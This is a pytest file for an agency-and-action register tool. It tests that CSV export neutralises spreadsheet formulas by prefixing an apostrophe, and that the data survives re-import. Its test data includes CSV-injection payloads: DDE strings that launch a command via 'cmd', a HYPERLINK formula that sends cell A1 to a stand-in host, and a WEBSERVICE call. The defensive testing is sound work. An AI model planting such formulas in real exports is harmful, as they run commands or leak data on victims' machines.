"""CSV opened in Excel: what would be run begins with an apostrophe, and comes back as it was."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Answer, Marg

FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://example.test?x="&A1,"Press")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "+44 191 498 0000",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    '=1+1;,"quoted"',
]
RUN = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def stored(marg: Marg) -> Callable[..., Answer]:
    """A register with every formula as an agency's name, its sector, and an action's text."""
    for number, formula in enumerate(FORMULAS):
        code = f"AG{number}"
        more = ("--sector", formula, "--part-of", f"Part {number}")
        added = marg("agency", "add", "-", "--code", code, *more, typed=formula)
        assert added.code == 0, added.err
        marg("action", "add", "group", "-", "--agency", code, "--due", "friday", typed=formula)
    return marg


@pytest.mark.parametrize(
    ("listed", "field"),
    [("agency list", "name"), ("agency list", "sector"), ("action list", "what")],
)
def test_no_cell_begins_as_a_formula_does(stored: Callable[..., Answer], listed: str, field: str):
    text = stored(*listed.split(), "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(RUN)]
    assert sorted(row[field] for row in rows) == sorted(f"'{formula}" for formula in FORMULAS)


def test_what_went_out_so_comes_back_as_it_was(stored: Callable[..., Answer], tmp_path: Path):
    """Blanks around a cell are not kept by an import, so those two formulas lose theirs."""
    file = tmp_path / "agencies.csv"
    file.write_text(stored("agency", "list", "--format", "csv").out, "utf-8", newline="")
    report = stored("import", str(file), "--format", "json").json
    assert report["added"] == 0
    assert not [problem for problem in report["problems"] if problem["fatal"]]
    names = [agency["name"] for agency in stored("agency", "list", "--format", "json").json]
    assert sorted(names) == sorted(formula.strip() for formula in FORMULAS)
